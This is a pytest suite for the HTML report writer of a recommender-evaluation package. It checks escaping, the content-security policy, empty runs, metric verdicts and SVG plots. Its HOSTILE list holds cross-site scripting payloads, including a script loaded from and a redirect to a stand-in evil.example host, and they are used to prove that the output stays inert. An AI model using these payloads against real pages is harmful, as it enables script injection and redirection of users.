"""The report: hostile text stays text, words follow the numbers, and every part survives a run that lacks it."""

from datetime import UTC, date, datetime
from html.parser import HTMLParser

import numpy as np
import pytest
from browsing import opened

from recgpt.evaluation import KEYS, report, svg
from recgpt.evaluation.category_hits import CategoryHits
from recgpt.evaluation.metrics import Score, matthew
from recgpt.evaluation.verdicts import verdicts

NOW = datetime(2017, 12, 18, 4, tzinfo=UTC)
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre></details><iframe src=javascript:alert(1)></iframe>",
    '" onmouseover="alert(1)" x="',
    "<a href='javascript:alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0,url=//evil.example'>",
    "{{ 7 * 7 }}{% raw %}<b>",
    "</text></svg><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "{0.__class__} {x!r} %s <b onclick=alert(1)>",
    "\u202e<script>\ud800alert(1)\x00</script>",
]
TAGS = """
html head meta title style body div nav strong a main header h1 h2 h3 h4 p span b section ul ol li figure figcaption
table thead tbody tr th td br details summary bdi pre code q em dl dt dd footer svg path text rect circle polyline
"""
ALLOWED = set(TAGS.split())


class Page(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], []
        self.open = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag not in {"meta", "br"}:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_endtag(self, tag):
        assert self.open.pop() == tag, f"</{tag}> closes something else"

    def handle_data(self, data):
        self.text.append(data)


def household(text="Slow cooking", **changes):
    fields = {
        "user_id": text,
        "attributes": f"age 35; {text}",
        "events": 40,
        "kept": 30,
        "tokens_raw": 900,
        "tokens_compressed": 300,
        "tokens_budgeted": 200,
        "history": f'r1 17-12-03 (purchase, cart), 17-11 (purchase) | {text}\nr2 16 (search) | "{text}"',
        "receipt": {"events": 40, "layout": text},
        "interests": [
            {
                "rank": 1,
                "interest": text,
                "listed": False,
                "stage": text,
                "reason": text,
                "evidence": [1, 2],
                "source": text,
            }
        ],
        "tags": [
            {"rank": rank, "tag": text, "interest": text, "reason": text, "category": text, "source": text}
            for rank in range(1, 24)
        ],
        "items": [
            {"item_id": text, "title": text, "category": text, "score": 0.5, "y_col": 0.4, "y_sem": 0.6}
            | {"tag": text, "interest": text, "explanation": text, "source": text, "bought": True},
            {"item_id": text, "score": float("nan")},
        ],
        "rejections": [{"stage": text, "text": text, "status": text, "reason": text}],
    }
    return report.Household(**(fields | changes))


def figures(**changes):
    row = {"hr@20_new": 0.3, "ndcg@20_new": 0.04, "categories@20": 9.0, "exclusive_recall@20": 0.001, "gini@20": 0.9}
    found = dict.fromkeys(KEYS, 0.5) | {
        "beta_sweep": [{"beta": 0.5} | row, {"beta": 1.0} | row | {"hr@20_new": 0.2}],
        "llm_beta_sweep": [{"beta": 0.5} | row, {"beta": 1.0} | row | {"hr@20_new": 0.25}],
        "seconds": {"logs": 1.5, "history": 3.0},
        "pass_decided_by": {"rules": 240, "model": 118, "people": 2, "unscored": 1},
    }
    return found | changes


@pytest.fixture
def written(tmp_path):
    def write(text="Slow cooking", **changes):
        options = {
            "figures": figures(report=text, bundle=text, seconds={text: 1.0}),
            "households": [household(text)] * 3,
            "now": NOW,
            "title": text,
            "tokens": {text: [10, 200.0, 3000], "compressed": [5, 90]},
            "validation_curve": {text: [0.1, 0.3, 0.2]},
            "category_hits": [CategoryHits(Score(0.2, None), Score(0.5, None), 12, True)],
            "rejections": [{"stage": text, "status": text, "reason": text, "count": 3}],
            "judged": [dict.fromkeys(report.JUDGED, 3) | {"task": text, "criterion": text, "decided_by": text}],
            "notes": [text],
            "ran": {text: text},
            "places": {text: matthew(*np.array([[0, 9, 99], [10, 10, 10], [1, 1, 1], [1, 10, 100]]), groups=3)},
            "intervals": {"hr@20": (0.4, 0.6)},
        }
        return report.write(tmp_path / "out" / "report.html", **(options | changes)).read_text(encoding="utf-8")

    return write


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_stays_text_in_every_field(written, payload):
    page = Page(written(payload))
    harmless = Page(written("Slow cooking"))
    assert page.tags == harmless.tags  # not one element more or less than with a harmless text
    assert set(page.tags) <= ALLOWED
    assert not page.open
    for tag, name, value in page.attributes:
        assert not name.startswith("on")
        assert name not in {"src", "style", "srcdoc", "xlink:href", "action"}
        assert name != "href" or value.startswith("#"), (tag, value)
    names = [(tag, name) for tag, name, _ in page.attributes]
    assert names == [(tag, name) for tag, name, _ in harmless.attributes]
    seen = "".join(letter for letter in payload if letter not in "\u202e\ud800\x00")
    assert seen in "".join(page.text)


def test_the_sweep_of_the_shoppers_with_the_models_tags_stands_apart(written):
    assert "shoppers alone whose tags the model wrote" in written()
    assert "shoppers alone whose tags the model wrote" not in written(figures=figures(llm_beta_sweep=[]))


def test_the_page_forbids_itself_to_load_or_run_anything(written):
    page = written()
    assert (
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline';" in page
    )
    assert "@import" not in page
    assert "url(" not in page
    assert "|safe" not in (report.Path(report.__file__).parent / "report.html.j2").read_text().replace(" ", "")


def test_a_run_without_model_and_without_figures_still_gives_a_page(written):
    empty = report.Household(user_id="7", history="")
    page = written(
        figures={},
        households=[empty],
        now=None,
        tokens={},
        validation_curve={},
        category_hits=[],
        rejections=[],
        judged=[],
        notes=[],
        ran={},
        places={},
        intervals={},
    )
    assert "No reliable behavior" in page
    assert "Who gets the places" not in page
    assert "What the judge said" not in page
    assert "This run has no held-out figures." in page
    assert page.count("nothing to show in this run") >= 5
    assert not Page(page).open


def test_the_old_page_stays_when_the_new_one_fails(tmp_path):
    path = report.write(tmp_path / "report.html", figures=figures())
    before = path.read_text()
    with pytest.raises(AttributeError):
        report.write(path, figures=figures(), households=[object()])
    assert path.read_text() == before
    assert [one.name for one in tmp_path.iterdir()] == ["report.html"]


def test_the_page_says_who_gets_the_places_what_ran_and_what_is_missing(written):
    text = "".join(Page(written("Slow cooking")).text)
    for piece in ("Who gets the places", "1.00", "0.901", "What ran", "What is not shown", "recgpt ab"):
        assert piece in text


def test_every_figure_of_the_headline_has_its_interval(written):
    intervals = {"hr@20_new": (0.25, 0.55), "hr@20_new_popularity": (0.45, 0.56), "hr@20_new_buy_again": (0.1, 0.9)}
    text = " ".join(" ".join(Page(written(intervals=intervals)).text).split())
    for ends in ("0.250 to 0.550", "0.450 to 0.560", "0.100 to 0.900"):
        assert ends in text
    # The towers' own once more, beside the stage that made them.
    assert "HR@20 on new items 0.500 95 % interval 0.250 to 0.550; popularity 0.500; buy-again 0.500" in text


def test_a_notebook_shows_words_figures_and_stages():
    from recgpt.pipeline import Outcome

    outcome = Outcome(report.Path("out"), figures=figures(), intervals={"hr@20": (0.4, 0.6)})
    page = Page(outcome._repr_html_())
    text = " ".join(" ".join(page.text).split())
    assert not page.open
    assert set(page.tags) <= ALLOWED
    for piece in ("In plain words", outcome.verdicts[0], "0.400 to 0.600", "Tag-to-Cate"):
        assert piece in text
    assert Outcome(report.Path("out")).verdicts == []
    assert "This run has no held-out figures." in Outcome(report.Path("out"))._repr_html_()


def test_the_card_shows_the_chain(written):
    text = "".join(Page(written("Slow cooking")).text)
    for piece in (
        "r1, r2",
        "extended",
        "The other 13 tags",
        "bought afterwards",
        "+0.500",
        "+0.400",
        "+0.600",
        "17-12-03",
    ):
        assert piece in text


def test_shares_of_explained_items_are_printed_as_shares(written):
    page = " ".join(
        Page(written(figures=figures(explained_by_interest=0.4, explained_by_item=0.55, explained_by_rule=0.05))).text
    )
    text = " ".join(page.split())
    said = (
        "Explained 0.400 share of served items with a text for the interest; 0.550 with one for the item alone, 0.050"
    )
    assert said in text


def test_where_a_baseline_wins_the_words_say_so():
    said = verdicts(
        figures(**{"hr@20": 0.7, "hr@20_popularity": 0.652, "hr@20_buy_again": 0.809}),
        {"hr@20": (0.68, 0.72)},
    )
    assert said[0] == (
        "loss",
        "Any purchase, HR@20: buy-again wins with 0.809; the towers reach 0.700, popularity 0.652.",
    )
    said = verdicts({"hr@20_new": 0.33, "hr@20_new_popularity": 0.264, "hr@20_new_buy_again": 0.264})
    assert said == [
        ("win", "New items, HR@20: the towers reach 0.330 against 0.264 for popularity, 1.25 times as much.")
    ]
    said = verdicts({"hr@20_new": 0.27, "hr@20_new_popularity": 0.264}, {"hr@20_new": (0.25, 0.29)})
    assert said[0].kind == "open"
    assert "Popularity lies inside the towers' 95 % interval (0.250 to 0.290)." in said[0].text


@pytest.mark.parametrize(
    ("own", "swapped", "n", "kind", "end"),
    [
        (0.25, 1 / 6, 12, "open", "1 shopper apart, which shows nothing either way."),
        (0.25, 0.25, 12, "open", "no shopper apart, which shows nothing either way."),
        (0.5, 0.25, 12, "win", "the own tags help 3 shoppers."),
        (0.25, 0.5, 20, "loss", "another shopper's tags do better by 5."),
    ],
)
def test_small_groups_are_called_small(own, swapped, n, kind, end):
    (said,) = verdicts({"llm_hr@20_new": own, "llm_hr@20_new_swapped": swapped, "llm_n": n})
    assert said.kind == kind
    assert said.text.endswith(end)
    assert f"(n = {n})" in said.text


def test_model_figures_in_words():
    said = verdicts(
        {
            "interests_changed_by_shuffle": 0.7,
            "interests_changed_by_model": 0.25,
            "evidence_supported_base": 0.35,
            "answers_valid_raw": 0.9,
            "evidence_supported_raw": 0.4,
            "rejected": 3,
            "unscored": None,
            "llm_hr@30_category": 0.2,
            "llm_hr@30_category_popularity": 0.5,
        }
    )
    assert [one.kind for one in said] == ["loss", "fact", "fact"]
    assert "popularity wins" in said[0].text
    assert said[1].text == (
        "Another shopper's history changes 70% of the chosen interests; with the shopper's own candidate list it "
        "changes 25%, and that part is the model's: one that ignored histories would change none, one that chose at "
        "random about two thirds."
    )
    assert "90% of the model's answers were valid" in said[2].text
    assert "supported its claim, as 35% of the rows that it could choose from do anyway" in said[2].text
    assert "3 answers were rejected and 0 could not be scored" in said[2].text


def test_beta_in_words_names_what_the_served_beta_gives_up():
    sweep = [
        {"beta": beta, "hr@20_new": rate, "categories@20": wide}
        for beta, rate, wide in ((0.0, 0.1, 12.0), (0.5, 0.3, 9.0), (0.8, 0.35, 8.0), (1.0, 0.31, 7.0))
    ]
    found, lost = verdicts({"beta": 0.5, "beta_sweep": sweep})
    assert "found best at 0.8 (HR@20 0.350" in found.text
    assert "most varied at 0 (12.0 categories; 7.0 at beta 1)" in found.text
    assert lost == ("loss", "Beta: this run serves with 0.5, which gives up 0.050 HR@20 on new items.")
    bare = [{**row, "categories@20": 0.0} for row in sweep]
    assert "varied" not in verdicts({"beta": 0.5, "beta_sweep": bare})[0].text


def test_history_labels_become_days():
    assert report._span("17", "12", "03") == (date(2017, 12, 3), date(2017, 12, 4))
    assert report._span("2016", "02", None) == (date(2016, 2, 1), date(2016, 3, 1))
    assert report._span("17", "12", None) == (date(2017, 12, 1), date(2018, 1, 1))
    assert report._span("17", None, None) == (date(2017, 1, 1), date(2018, 1, 1))
    assert report._span("17", "13", None) is None


@pytest.mark.parametrize(
    "plot",
    [
        svg.bars([svg.Bar("a", float("nan"))], title="t"),
        svg.bars([svg.Bar("a", 0.0)], title="t"),
        svg.scatter([svg.Point("a", 1, 1)], x="x", y="y", title="t"),
        svg.scatter([], x="x", y="y", title="t"),
        svg.curve({"a": [0.5], "b": []}, x="x", y="y", title="t"),
        svg.curve({"a": [0.0, 0.0]}, x="x", y="y", title="t"),
        svg.ridges({"a": [7.0], "b": [0]}, x="x", title="t"),
        svg.ridges({"a": [1.0, 1.0]}, x="x", title="t"),
        svg.timeline([svg.Lane("a", [], 0)], start=date(2017, 1, 1), end=date(2017, 1, 1), title="t"),
    ],
)
def test_plots_survive_little_data(plot):
    assert not Page(plot).open
    assert "nan" not in plot
    assert "inf" not in plot


def test_bars_are_as_long_as_their_values():
    plot = Page(svg.bars([svg.Bar("a", 0.5), svg.Bar("b", 0.25)], title="t"))
    widths = [float(value) for (tag, name, value) in plot.attributes if tag == "rect" and name == "width"]
    track, full, _, half = widths
    assert full == track
    assert half == pytest.approx(track / 2, abs=0.1)


@pytest.mark.slow
@pytest.mark.timeout(90)
def test_a_browser_finds_nothing_to_run(tmp_path):
    everything = "".join(HOSTILE).replace("\ud800", "").replace("alert(1)", "document.title='owned'")
    path = report.write(tmp_path / "report.html", figures=figures(), households=[household(everything)], now=NOW)
    document, said = opened(path)
    assert "<title>recgpt report</title>" in document
    assert "Content Security Policy" not in said  # nothing of ours, or of theirs, even tried
    assert "script" not in Page(document).tags
